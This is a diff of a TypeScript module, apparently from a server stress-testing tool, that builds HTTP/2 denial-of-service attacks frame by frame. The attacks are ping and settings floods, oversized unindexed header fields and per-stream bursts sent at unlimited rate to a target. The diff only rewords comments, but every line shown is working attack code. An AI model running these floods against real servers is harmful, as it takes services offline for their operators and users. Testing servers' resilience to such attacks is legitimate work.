@@ -1,5 +1,5 @@
 /**
- * What somebody without a key can do over HTTP/2 (RFC 9113), frame by frame.
+ * Attacks over HTTP/2 (RFC 9113), frame by frame, by somebody without a key.
  */
 import type { Socket } from 'node:net';
 import type { Attack } from './attack.ts';
@@ -19,16 +19,16 @@ const FRAME = {
 const END = { stream: 1, headers: 4 } as const;
 const CANCEL = 8;
 const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
-/** GET, https, / of the static table, and an authority (RFC 7541 Appendix A). */
+/** The headers of a request: GET, https and / by the static table, and an authority (RFC 7541 Appendix A). */
 const REQUEST = Buffer.from([0x82, 0x87, 0x84, 0x41, 1, 0x78]);
-/** A literal header field that is not indexed: `a: ` and so many bytes. */
+/** A literal header field that is not indexed: `a: ` and 4096 bytes. */
 const LARGE_FIELD = Buffer.concat([Buffer.of(0, 1, 0x61, 0x7f, 0x81, 0x1f), Buffer.alloc(4096, 0x62)]);
-/** Frames of a burst. */
+/** How many frames a burst has. */
 const BURST = 32;
-/** Streams on one connection; their ids may not pass 2^31. */
+/** The id of the first stream on a connection. Ids may not exceed 2^31. */
 const FIRST_STREAM = 1;
 
-/** By the name they have in the table. */
+/** The attacks, by their names in the table of results. */
 export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
   'HTTP/2 pings': repeating(frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
   'HTTP/2 settings': repeating(frame(FRAME.settings, 0, 0, Buffer.from('000300000100', 'hex'))),
@@ -48,13 +48,13 @@ export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
   ]),
 };
 
-/** The same frame again and again. */
+/** An attack that sends the same frame again and again. */
 function repeating(one: Buffer): Attack {
   const bytes = Buffer.concat(Array.from({ length: BURST }, () => one));
   return flooding(() => ({ bytes, requests: BURST }));
 }
 
-/** A new stream each time. */
+/** An attack that opens a new stream with each burst. */
 function perStream(framesOf: (stream: number) => readonly Buffer[]): Attack {
   const streams = new WeakMap<Socket, number>();
   return flooding((socket) => {
@@ -69,7 +69,7 @@ function flooding(next: (socket: Socket) => { readonly bytes: Buffer; readonly r
   const greet = async (socket: Socket) => {
     socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, Buffer.alloc(0))]));
   };
-  // Frames are limited by the line alone.
+  // Frames are limited only by the bytes a second.
   const requestsPerS = Number.POSITIVE_INFINITY;
   return ({ target, ...run }) =>
     flood(
